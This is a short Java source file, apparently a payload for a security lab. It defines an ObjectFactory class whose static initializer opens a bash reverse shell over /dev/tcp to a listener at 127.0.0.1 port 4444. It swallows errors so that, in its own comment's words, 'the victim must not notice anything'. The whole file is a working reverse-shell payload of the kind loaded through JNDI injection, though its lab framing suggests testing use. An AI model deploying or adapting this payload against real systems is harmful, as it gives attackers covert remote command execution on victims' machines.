import java.util.Hashtable;
import javax.naming.Context;
import javax.naming.Name;
import javax.naming.spi.ObjectFactory;

/**
 * A reverse shell: its static initializer runs
 * {@code bash -c 'exec bash -i >& /dev/tcp/127.0.0.1/4444 0>&1'}, an interactive bash whose
 * input and output are a TCP connection to the attacker's listener. The lab's listener types
 * {@code echo pwned > pwned; exit}, so the canary file {@code pwned} appears in the victim's
 * working directory once the attacker has used the shell.
 */
public class LabReverseShell implements ObjectFactory {
    static {
        try {
            Runtime.getRuntime().exec(new String[] {
                "bash", "-c", "exec bash -i >& /dev/tcp/127.0.0.1/4444 0>&1"
            });
        } catch (Exception e) {
            // A payload keeps quiet: the victim must not notice anything.
        }
    }

    @Override
    public Object getObjectInstance(Object obj, Name name, Context ctx, Hashtable<?, ?> env) {
        return "pwned-by-LabReverseShell";
    }
}
